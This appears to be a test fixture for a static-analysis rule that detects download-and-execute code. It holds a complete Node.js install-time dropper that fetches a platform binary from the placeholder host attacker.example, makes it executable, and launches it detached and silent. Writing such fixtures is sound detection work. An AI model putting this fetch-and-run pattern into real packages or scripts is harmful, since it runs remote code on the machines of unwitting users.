// Install-time dropper: fetch a platform binary from the attacker's host, make it executable, start it detached.
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const name = os.platform() === 'win32' ? 'update.exe' : 'update';
const target = path.join(os.tmpdir(), name);
const file = fs.createWriteStream(target);

https.get('https://attacker.example/payload/' + name, (res) => {
  res.pipe(file);
  file.on('finish', () => {
    file.close();
    fs.chmodSync(target, 0o755);
    // ruleid: code/download-execute
    spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
